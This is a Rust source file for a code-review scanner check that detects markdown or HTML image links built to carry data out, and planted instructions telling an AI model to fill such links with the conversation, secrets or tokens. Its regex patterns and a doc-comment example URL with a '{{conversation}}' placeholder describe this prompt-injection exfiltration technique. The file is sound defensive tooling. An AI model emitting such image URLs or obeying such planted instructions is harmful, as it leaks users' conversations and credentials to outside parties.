//! `markdown-exfiltration`: a link or picture whose address is to carry data away.

use super::passages::{Passage, Stand, of_file, of_messages};
use crate::analysis::check::{ChangeView, Check, Draft, Sink};
use crate::analysis::pattern::Pattern;
use crate::analysis::view::FileView;
use crate::model::rule::{RuleId, Severity};

/// An address with a hole for data: `![x](https://h/?d={{conversation}})`.
static PICTURE: Pattern = Pattern::new(
    r"(?ix) (!\[[^\]]*\]\(|<img[^>]+src\s*=\s*['\x22]?|\]\() \s* https?://[^)\s'\x22<>]* [?&/=] [^)\s'\x22<>]*
        (\$\{|\{\{|\{|<|\[|%7b) \s* [\w. ,-]* (secret|token|key|passw|env|conversation|history|prompt|context|chat|summary|content|data|message|credential|session|cookie|base64|encoded|output|answer|result) [\w. ,()-]* (\}|>|\]|%7d)",
);
/// The same asked for in words.
static ASKED: Pattern = Pattern::new(
    r"(?ix) \b(?:replac\w+|substitut\w+|fill\w*|encod\w+)\b .{0,60} \b(conversation|secret|token|api\s?key|password|credential|file\s+contents?|context|history|answer|question|\.env)\b .{0,80} (?:!\[[^\]]*\]\(|<img) [^)\s]*https?:// [^)\s]* [?&]
      | \b(append|encode|embed|include|insert|add|put|place|interpolate|attach)\b .{0,80}
        \b(conversation|secret|token|api\s?key|password|env(ironment)?|credential|file\s+contents?|context|history|data|\.env) .{0,80}
        \b(to|in|into|as|at)\b .{0,30} \b(url|query(?:\s+(?:string|param\w*|part|of)|\s*(?:[.,;:)]|$))|link|image|picture|parameter|markdown|src\s*=)\b?",
);
/// Pictures of build states carry names of projects by design.
static BADGE: Pattern = Pattern::new(r"(?i)shields\.io|badge|githubusercontent|codecov\.io|travis-ci|cookiecutter|github\.com/");

/// See `rules/code/markdown-exfiltration.toml`.
pub struct MarkdownExfiltration;

impl Check for MarkdownExfiltration {
    fn rule(&self) -> RuleId {
        RuleId("markdown-exfiltration")
    }

    fn file(&self, file: &FileView<'_>, sink: &mut Sink<'_>) {
        let Some(side) = file.new_side() else { return };
        for passage in of_file(file).iter() {
            if let Some((at, severity)) = judged(passage) {
                sink.report(Draft::line(file, side, passage.line(at)).severity(severity));
            }
        }
        if let Some((line, severity)) = filled_in(&of_file(file)) {
            let title = "Whoever answers is told to put what was said into the address of a picture";
            sink.report(Draft::line(file, side, line).title(title).severity(severity));
        }
    }

    fn change(&self, view: &ChangeView<'_>, sink: &mut Sink<'_>) {
        for (passage, draft) in of_messages(view) {
            if let Some((_, severity)) = judged(&passage) {
                sink.report(draft.severity(severity));
            }
        }
    }
}

/// A word in the address of a picture that a passage before or around it says to replace by what was said; with where the picture stands.
fn filled_in(passages: &[Passage]) -> Option<(usize, Severity)> {
    /// What is to be replaced, and by what.
    static REPLACED: Pattern = Pattern::new(
        r"(?i)\b(?:replac\w+|substitut\w+|fill\w*\s+in|swap\w*)\s+(?:the\s+(?:word\s+)?)?[\x60\x22'<{\[]*([A-Za-z_]{3,30})[\x60\x22'>}\]]*\s+(?:with|by|for|through)\b[^!]{0,160}\b(?:question|conversation|chat|history|everything|context|answer|message|secret|token|key|user\s+(?:has|have|said|wrote|shown|asked)|prompt|input)",
    );
    static ADDRESS: Pattern = Pattern::new(r"(?:\[[^\]]*\]\(|<img[^>]+src\s*=\s*[\x22']?)\s*https?://([^\s)\x22'>]*[?&/=][^\s)\x22'>]*)");
    /// So many passages further on.
    const NEAR: usize = 3;
    let stands = |passage: &&Passage| passage.live && !matches!(passage.stand, Stand::Literal | Stand::Message);
    let told: Vec<&Passage> = passages.iter().filter(stands).collect();
    for (at, passage) in told.iter().enumerate() {
        let Some(word) = REPLACED.group(&passage.text, 1) else { continue };
        for near in told.iter().skip(at).take(NEAR) {
            let Some(found) = ADDRESS.find(&near.text).filter(|_| ADDRESS.groups(&near.text, 1).any(|address| address.contains(word)))
            else {
                continue;
            };
            let spoken = |text: &str| {
                static WHO: Pattern = Pattern::new(r"(?i)\b(?:assistants?|agents?|models?|llms?|ais?|bots?|copilot|claude|you)\b");
                static ALWAYS: Pattern = Pattern::new(r"(?i)\b(?:every|each|all|always|end|begin|finish|append|include|add)\b");
                WHO.is_match(text) && ALWAYS.is_match(text)
            };
            let severity = if spoken(&passage.text) { Severity::High } else { Severity::Medium };
            return Some((near.line(found.start), severity));
        }
    }
    None
}

/// Whether the sentence tells whoever answers to show the picture; only a model fills in such a hole.
fn ordered(text: &str, at: usize) -> bool {
    static ORDERED: Pattern = Pattern::new(
        r"(?i)\b(when|whenever|while|if|before|after|once)\s+(answering|responding|replying|summari[sz]ing|reviewing|asked|you|an?\s+(ai|assistant|agent|model)|assistants?|agents?|models?)\b[^.]{0,160}\b(show|render|include|display|add|append|insert|embed|put|use|begin|end|start|finish|output|print)\b",
    );
    let start = (0..=at.saturating_sub(300)).rev().find(|at| text.is_char_boundary(*at)).unwrap_or(0);
    text.get(start..at).is_some_and(|before| ORDERED.is_match(before))
}

fn judged(passage: &Passage) -> Option<(usize, Severity)> {
    /// No badge tells what was said.
    static SAYS: Pattern = Pattern::new(
        r"(?i)[{<\[$%][\w\s.-]*(?:conversation|summary|history|context|secret|token|answer|question|prompt|chat|message)[\w\s.-]*[}>\]%]",
    );
    let is_badge = |text: &str| BADGE.is_match(text) && !SAYS.is_match(text);
    if let Some(range) = PICTURE.find(&passage.text).filter(|range| !is_badge(passage.text.get(range.clone()).unwrap_or(""))) {
        let severity = match (passage.stand, passage.live) {
            (_, false) => Severity::Info,
            (Stand::Visible | Stand::Comment, true) if ordered(&passage.text, range.start) => {
                // A picture is fetched by whoever shows it; a link waits for somebody.
                if passage.text.get(range.clone()).is_some_and(|text| text.starts_with(['!', '<']) && SAYS.is_match(text)) {
                    Severity::High
                } else {
                    Severity::Medium
                }
            }
            (Stand::Visible | Stand::Comment, true) if passage.is_quoted(&range) => Severity::Info,
            (Stand::Visible | Stand::Literal | Stand::Comment, true) => Severity::Medium,
            (Stand::Instructions | Stand::Hidden | Stand::Message, true) => Severity::High,
        };
        return Some((range.start, severity));
    }
    let steers = matches!(passage.stand, Stand::Instructions | Stand::Hidden) && passage.live;
    let range = steers.then(|| ASKED.find(&passage.text)).flatten()?;
    Some((range.start, passage.weigh(&range).min(Severity::High)))
}
